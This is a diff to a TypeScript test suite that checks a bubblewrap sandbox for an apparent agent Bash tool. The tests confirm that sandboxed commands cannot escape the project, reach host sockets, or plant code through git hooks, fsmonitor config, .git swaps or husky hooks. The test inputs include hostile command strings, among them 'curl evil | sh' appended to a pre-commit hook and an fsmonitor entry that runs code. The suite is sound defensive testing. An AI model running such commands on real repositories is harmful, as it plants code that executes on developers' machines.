@@ -83,13 +83,15 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     setUp();
     const planted = await run(`ln -s ${outside} link && echo x > link/f`);
     expect(planted.data.exitCode).not.toBe(0);
-    const again = await run('echo y > link/g; mkdir link/dir');
-    expect(again.data.exitCode).not.toBe(0);
-    expect(readdirSync(outside)).toEqual([]);
     // A link into the host's /tmp points into the sandbox's private /tmp instead.
     const hostTmp = mkdtempSync('/tmp/efferent-outside-');
     try {
-      await run(`ln -s ${hostTmp} tmplink; echo x > tmplink/f`);
+      const again = await run(
+        `echo y > link/g; echo "g=$?"; mkdir link/dir; echo "dir=$?"; ln -s ${hostTmp} tmplink; echo x > tmplink/f`,
+      );
+      expect(again.data.stdout).toMatch(/g=[1-9]/);
+      expect(again.data.stdout).toMatch(/dir=[1-9]/);
+      expect(readdirSync(outside)).toEqual([]);
       expect(readdirSync(hostTmp)).toEqual([]);
     } finally {
       rmSync(hostTmp, { recursive: true, force: true });
@@ -113,15 +115,14 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     await new Promise<void>((resolve) => daemon.listen(socketPath, resolve));
     try {
       const connect = `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${socketPath}'); print(s.recv(64).decode())"`;
-      const blocked = await run(connect);
-      expect(blocked.data.exitCode).not.toBe(0);
-      expect(blocked.data.stdout).not.toContain('daemon says hi');
-      expect(blocked.text).toMatch(/Operation not permitted/);
-      // Pipes and socket pairs inside the command still work.
-      const pair = await run(
-        `python3 -c "import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2).decode())"`,
+      // Pipes and socket pairs inside the command still work (same call).
+      const blocked = await run(
+        `${connect}; echo "connect=$?"; python3 -c "import socket; a, b = socket.socketpair(); a.send(b'ok'); print(b.recv(2).decode())"`,
       );
-      expect(pair.data.stdout).toBe('ok\n');
+      expect(blocked.data.stdout).not.toContain('daemon says hi');
+      expect(blocked.data.stdout).toMatch(/connect=[1-9]/);
+      expect(blocked.text).toMatch(/Operation not permitted/);
+      expect(blocked.data.stdout).toMatch(/\nok\n$/);
       const allowed = await run(connect, createBashTool({ sandbox: 'required', allowUnixSockets: true }));
       expect(allowed.data.stdout).toContain('daemon says hi');
     } finally {
@@ -133,17 +134,16 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     setUp();
     execFileSync('git', ['init', '-q'], { cwd: project.root });
     const configBefore = readFileSync(join(project.root, '.git/config'), 'utf8');
-    const hook = await run('echo "echo pwned" > .git/hooks/pre-commit');
-    expect(hook.data.exitCode).not.toBe(0);
-    expect(existsSync(join(project.root, '.git/hooks/pre-commit'))).toBe(false);
-    const config = await run('echo "[core] fsmonitor = evil" >> .git/config');
-    expect(config.data.exitCode).not.toBe(0);
-    expect(readFileSync(join(project.root, '.git/config'), 'utf8')).toBe(configBefore);
-    // The rest of .git stays usable: commits work.
-    const commit = await run(
-      'echo a > a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm one && git log --oneline | wc -l',
+    // One call: both attempts fail, and the rest of .git stays usable (commits work).
+    const attempts = await run(
+      'echo "echo pwned" > .git/hooks/pre-commit; echo "hook=$?"; echo "[core] fsmonitor = evil" >> .git/config; echo "config=$?"; ' +
+        'echo a > a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm one && echo "commits=$(git log --oneline | wc -l)"',
     );
-    expect(commit.data.stdout.trim()).toBe('1');
+    expect(attempts.data.stdout).toMatch(/hook=[1-9]/);
+    expect(attempts.data.stdout).toMatch(/config=[1-9]/);
+    expect(attempts.data.stdout).toContain('commits=1');
+    expect(existsSync(join(project.root, '.git/hooks/pre-commit'))).toBe(false);
+    expect(readFileSync(join(project.root, '.git/config'), 'utf8')).toBe(configBefore);
   });
 
   it('keeps .git itself in place, so a command cannot swap in a repository whose config runs code', async () => {
@@ -151,15 +151,13 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     execFileSync('git', ['init', '-q'], { cwd: project.root });
     const marker = join(outside, 'fsmonitor-ran');
     const evilConfig = `[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
-    const swap = await run(
-      `mv .git .git-old && mkdir .git && cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/ && printf "${evilConfig}" > .git/config`,
+    const attempts = await run(
+      `mv .git .git-old && mkdir .git && cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/ && printf "${evilConfig}" > .git/config; echo "swap=$?"; ` +
+        `git init -q --bare evil && printf "${evilConfig}" > evil/config && echo ../evil > .git/commondir; echo "redirect=$?"`,
     );
-    expect(swap.data.exitCode).not.toBe(0);
-    const redirect = await run(
-      `git init -q --bare evil && printf "${evilConfig}" > evil/config && echo ../evil > .git/commondir`,
-    );
+    expect(attempts.data.stdout).toMatch(/swap=[1-9]/);
     // commondir is covered even when missing: it cannot be created at all.
-    expect(redirect.data.exitCode).not.toBe(0);
+    expect(attempts.data.stdout).toMatch(/redirect=[1-9]/);
     removeAllPlaceholders();
     expect(existsSync(join(project.root, '.git/commondir'))).toBe(false);
     execFileSync('git', ['status', '--short'], { cwd: project.root, stdio: 'ignore' });
@@ -208,17 +206,19 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     mkdirSync(join(project.root, 'tools/hooks'), { recursive: true });
     execFileSync('git', ['config', 'core.hooksPath', 'tools/hooks'], { cwd: project.root });
     writeFileSync(join(project.root, '.pre-commit-config.yaml'), 'repos: []\n');
-    const husky = await run('echo "curl evil | sh" >> .husky/pre-commit');
-    expect(husky.data.exitCode).not.toBe(0);
-    expect(readFileSync(join(project.root, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
-    const configured = await run('echo "touch pwned" > tools/hooks/pre-commit');
-    expect(configured.data.exitCode).not.toBe(0);
-    expect(existsSync(join(project.root, 'tools/hooks/pre-commit'))).toBe(false);
-    const preCommit = await run('echo "repos: [{repo: local}]" > .pre-commit-config.yaml');
-    expect(preCommit.data.exitCode).not.toBe(0);
-    expect(readFileSync(join(project.root, '.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n');
+    const attempts = await run(
+      'echo "curl evil | sh" >> .husky/pre-commit; echo "husky=$?"; echo "touch pwned" > tools/hooks/pre-commit; echo "configured=$?"; ' +
+        'echo "repos: [{repo: local}]" > .pre-commit-config.yaml; echo "pre-commit=$?"; echo ok > tools/readme.txt; echo "readme=$?"',
+    );
+    expect(attempts.data.stdout).toMatch(/husky=[1-9]/);
+    expect(attempts.data.stdout).toMatch(/configured=[1-9]/);
+    expect(attempts.data.stdout).toMatch(/pre-commit=[1-9]/);
     // Ordinary files beside them stay writable.
-    expect((await run('echo ok > tools/readme.txt')).data.exitCode).toBe(0);
+    expect(attempts.data.stdout).toContain('readme=0');
+    expect(readFileSync(join(project.root, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
+    expect(existsSync(join(project.root, 'tools/hooks/pre-commit'))).toBe(false);
+    expect(readFileSync(join(project.root, '.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n');
+    expect(readFileSync(join(project.root, 'tools/readme.txt'), 'utf8')).toBe('ok\n');
   });
 
   it('does not let a command create missing settings directories, and leaves no placeholder behind', async () => {
@@ -257,7 +257,9 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     setUp();
     const marker = `${100 + Math.floor(Math.random() * 800)}.${process.pid}3`;
     const pending = run(`sleep ${marker} & sleep ${marker}`);
-    await delay(400);
+    // Wait until both have started (bwrap's start-up varies with the machine's load).
+    for (let waited = 0; processesMatching(`sleep ${marker}`).length < 2 && waited < 20_000; waited += 50)
+      await delay(50);
     expect(processesMatching(`sleep ${marker}`).length).toBe(2);
     project.context.run.abortController.abort();
     expect((await pending).data.interrupted).toBe(true);
